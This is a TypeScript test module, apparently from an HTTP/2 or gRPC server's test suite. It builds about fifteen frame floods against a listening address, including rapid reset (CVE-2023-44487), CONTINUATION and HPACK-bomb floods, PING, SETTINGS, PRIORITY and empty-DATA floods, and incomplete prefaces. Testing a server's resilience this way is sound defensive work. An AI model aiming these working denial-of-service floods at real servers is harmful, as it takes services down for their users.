// Floods of HTTP/2 frames, each with its name in advisories where it has one.

import { setTimeout as sleep } from 'node:timers/promises'
import {
  callHeaders,
  FLAG,
  FRAME,
  frame,
  FrameClient,
  literal,
  number32,
  PREFACE,
  setting,
} from '../../fakes/http2-frames.ts'
import type { ListenAddress } from '../../../src/runtime/listen.ts'

/** What a flooder sends until it has sent it all, is cut off, or is not read from any more. */
export interface FrameFlood {
  readonly name: string
  /** Whether every server ends the connection, or only that of streams; else the flood may end otherwise. */
  readonly ends: boolean | 'streams'
  /** Starts it; resolves with the connections that it opened. */
  readonly run: (address: ListenAddress) => Promise<readonly FrameClient[]>
}

const METHOD = callHeaders('/grpc.health.v1.Health/Watch')
const EMPTY = Buffer.alloc(0)
const HEADERS_AND_END = FLAG.endHeaders

const opened = (stream: number): Buffer => frame(FRAME.headers, HEADERS_AND_END, stream, METHOD)

const PER_WRITE = 200
const STALLED_MS = 500

interface Sending {
  readonly frames: number
  /** Sent first. */
  readonly first?: readonly Buffer[]
  /** Whether the flooder takes none of the answers. */
  readonly deaf?: boolean
}

const sending =
  (options: Sending, frameOf: (index: number) => Buffer) => async (address: ListenAddress) => {
    const client = await FrameClient.connect(address)
    if (options.deaf === true) client.pause()
    await client.send(...(options.first ?? []))
    for (let sent = 0; sent < options.frames && !client.isClosed; sent += PER_WRITE) {
      const frames = Array.from({ length: PER_WRITE }, (_, index) => frameOf(sent + index))
      const taken = client.send(...frames).then(() => 'taken')
      // A server whose answers are not taken may close the connection, or stop reading from it.
      const stalled = options.deaf === true ? [sleep(STALLED_MS, 'stalled')] : []
      if ((await Promise.race([taken, ...stalled])) === 'stalled') break
    }
    return [client]
  }

const idOf = (index: number): number => 2 * index + 1

const HEADER_TABLE_SIZE = 1
const MAX_HEADER = 'x'.repeat(4_000)
// RFC 7541 §6.2.1: a literal that goes into the dynamic table, then (§6.1) its index again and again.
const REMEMBERED = Buffer.concat([Buffer.from([0x40]), literal('bomb', MAX_HEADER).subarray(1)])
const INDEXED = Buffer.alloc(4_000, 0xbe)

/** The floods. */
export const FLOODS: readonly FrameFlood[] = [
  {
    name: 'streams that are reset at once (rapid reset, CVE-2023-44487)',
    ends: 'streams',
    run: sending({ frames: 20_000 }, (index) =>
      Buffer.concat([opened(idOf(index)), frame(FRAME.reset, 0, idOf(index), number32(8))]),
    ),
  },
  {
    name: 'a header block that never ends (CONTINUATION, CVE-2024-27316)',
    ends: true,
    run: sending({ frames: 10_000, first: [frame(FRAME.headers, 0, 1, METHOD)] }, () =>
      frame(FRAME.continuation, 0, 1, literal('x-more', 'y'.repeat(500))),
    ),
  },
  {
    name: 'PING, while the answers are not taken (CVE-2019-9512)',
    ends: false,
    run: sending({ frames: 200_000, deaf: true }, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'SETTINGS, while the answers are not taken (CVE-2019-9515)',
    ends: false,
    run: sending({ frames: 200_000, deaf: true }, () =>
      frame(FRAME.settings, 0, 0, setting(4, 65_535)),
    ),
  },
  {
    name: 'SETTINGS with more parameters than there are',
    ends: true,
    run: sending({ frames: 1_000 }, () =>
      frame(
        FRAME.settings,
        0,
        0,
        Buffer.concat(Array.from({ length: 2_000 }, () => setting(4, 65_535))),
      ),
    ),
  },
  {
    name: 'PRIORITY of streams that do not exist (CVE-2019-9513)',
    ends: false,
    run: sending({ frames: 100_000 }, (index) =>
      frame(FRAME.priority, 0, idOf(index), Buffer.from([0, 0, 0, 0, 16])),
    ),
  },
  {
    name: 'WINDOW_UPDATE',
    ends: false,
    run: sending({ frames: 100_000 }, () => frame(FRAME.windowUpdate, 0, 0, number32(1))),
  },
  {
    name: 'WINDOW_UPDATE past the largest window',
    ends: true,
    run: sending({ frames: 1_000 }, () => frame(FRAME.windowUpdate, 0, 0, number32(0x7f_ff_ff_ff))),
  },
  {
    name: 'empty DATA frames (CVE-2019-9518)',
    ends: false,
    run: sending({ frames: 50_000, first: [opened(1)] }, () => frame(FRAME.data, 0, 1, EMPTY)),
  },
  {
    name: 'a header table of 4 GiB, and one header 4,000 times (HPACK bomb)',
    ends: false,
    run: sending(
      {
        frames: 400,
        first: [frame(FRAME.settings, 0, 0, setting(HEADER_TABLE_SIZE, 0xff_ff_ff_ff))],
      },
      (index) =>
        frame(
          FRAME.headers,
          FLAG.endHeaders | FLAG.endStream,
          idOf(index),
          Buffer.concat([METHOD, REMEMBERED, INDEXED]),
        ),
    ),
  },
  {
    name: 'frames of an unknown type',
    ends: false,
    run: sending({ frames: 50_000 }, () => frame(0xfe, 0, 0, Buffer.alloc(64))),
  },
  {
    name: 'DATA on streams that were never opened',
    ends: true,
    run: sending({ frames: 5_000 }, (index) => frame(FRAME.data, 0, idOf(index), Buffer.alloc(8))),
  },
  {
    name: 'streams that stay open without a message',
    ends: false,
    run: sending({ frames: 12_000 }, (index) => opened(idOf(index))),
  },
  {
    name: 'prefaces that are not completed',
    ends: false,
    run: async (address) =>
      await Promise.all(
        Array.from({ length: 200 }, () => FrameClient.connect(address, PREFACE.subarray(0, 12))),
      ),
  },
  {
    name: 'another protocol',
    ends: true,
    run: async (address) => [
      await FrameClient.connect(address, Buffer.from('GET / HTTP/1.1\r\nhost: x\r\n\r\n')),
    ],
  },
]
